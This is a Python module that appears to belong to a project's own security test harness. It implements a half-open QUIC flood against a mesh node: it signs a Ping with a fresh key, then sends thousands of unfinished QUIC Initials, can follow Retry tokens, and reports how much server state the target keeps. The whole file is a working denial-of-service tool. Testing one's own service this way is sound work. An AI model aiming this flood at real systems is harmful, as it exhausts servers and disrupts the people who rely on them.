"""A half-open QUIC flood from one key and one address (issue 10, item 2), as a program.

`python -m harness.attack.quic_flooder NODEID@HOST:PORT --count N --rate R [--follow-retry]`

It signs one disco Ping with a fresh key (so the target ties our address to that key, as
for any peer), then sends N full-size QUIC v1 Initials, each from a fresh aioquic client
with a new connection id, R per second, and never completes a handshake. With
`--follow-retry` it answers each Retry packet with the Initial carrying the token, as a
client that validates its address but still never finishes would. It reads what comes back
and prints one JSON line: Initials sent, Retries received, how many distinct connections the
target answered with its own handshake flight (each one is server state), and the most of
those alive at once, counting each as alive for `--lifetime` seconds after its first answer.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import ssl
import time
from typing import Any

from aioquic.buffer import Buffer, BufferReadError
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.packet import QuicPacketType, pull_quic_header

from fleet.identity import Identity
from fleet.mesh import disco
from fleet.mesh.peer_addr import PeerAddr
from fleet.protocol.alpn import ADMIN


class Flood(asyncio.DatagramProtocol):
    def __init__(self, lifetime: float) -> None:
        self.clients: dict[bytes, QuicConnection] = {}  # our cid -> client
        self.answered: dict[bytes, float] = {}  # our cid -> first server handshake packet
        self.retries = 0
        self.sent = 0
        self.lifetime = lifetime
        self.follow_retry = False
        self.transport: asyncio.DatagramTransport | None = None
        self.target: tuple[str, int] = ("", 0)

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        if not data or data[0] < 0x40 or not data[0] & 0x80:
            return  # disco Pong, or a short header: nothing to count
        try:
            header = pull_quic_header(Buffer(data=data), host_cid_length=8)
        except (ValueError, BufferReadError):
            return
        if header.packet_type == QuicPacketType.RETRY:
            self.retries += 1
            client = self.clients.get(header.destination_cid)
            if self.follow_retry and client is not None:
                now = time.monotonic()
                client.receive_datagram(data, addr, now)
                self._send(client, now)
            return
        self.answered.setdefault(header.destination_cid, time.monotonic())

    def initial(self, config: QuicConfiguration) -> None:
        client = QuicConnection(configuration=config)
        now = time.monotonic()
        client.connect(self.target, now)
        if self.follow_retry:
            self.clients[client.host_cid] = client
        self._send(client, now)
        self.sent += 1

    def _send(self, client: QuicConnection, now: float) -> None:
        assert self.transport is not None
        for data, _ in client.datagrams_to_send(now):
            self.transport.sendto(data, self.target)

    def most_alive(self) -> int:
        starts = sorted(self.answered.values())
        best, lo = 0, 0
        for hi, start in enumerate(starts):
            while starts[lo] < start - self.lifetime:
                lo += 1
            best = max(best, hi - lo + 1)
        return best


async def flood(
    target: PeerAddr, count: int, rate: float, *, follow_retry: bool, lifetime: float, linger: float
) -> dict[str, Any]:
    loop = asyncio.get_running_loop()
    host, port = target.addrs[0]
    transport, proto = await loop.create_datagram_endpoint(
        lambda: Flood(lifetime), local_addr=("127.0.0.1" if host == "127.0.0.1" else "0.0.0.0", 0)
    )
    proto.transport = transport
    proto.follow_retry = follow_retry
    proto.target = (host, port)
    identity = Identity.generate()
    ping = disco.encode(identity, target.node_id, disco.Ping(os.urandom(12)), time.time())
    transport.sendto(ping, (host, port))
    await asyncio.sleep(0.2)  # the Ping ties our address to the fresh key
    config = QuicConfiguration(is_client=True, alpn_protocols=[ADMIN], verify_mode=ssl.CERT_NONE)
    started = time.monotonic()
    for index in range(count):
        proto.initial(config)
        delay = started + (index + 1) / rate - time.monotonic()
        if delay > 0:
            await asyncio.sleep(delay)
    seconds = time.monotonic() - started
    await asyncio.sleep(linger)
    transport.close()
    return {
        "sent": proto.sent,
        "seconds": round(seconds, 2),
        "retries": proto.retries,
        "answered": len(proto.answered),
        "most_alive": proto.most_alive(),
        "node": str(identity.node_id),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("target", help="NODEID@HOST:PORT")
    parser.add_argument("--count", type=int, default=4500)
    parser.add_argument("--rate", type=float, default=300.0)
    parser.add_argument("--follow-retry", action="store_true")
    parser.add_argument("--lifetime", type=float, default=10.0, help="seconds a half-open lives")
    parser.add_argument("--linger", type=float, default=0.5, help="seconds to read after")
    args = parser.parse_args()
    result = asyncio.run(
        flood(
            PeerAddr.parse(args.target),
            args.count,
            args.rate,
            follow_retry=args.follow_retry,
            lifetime=args.lifetime,
            linger=args.linger,
        )
    )
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
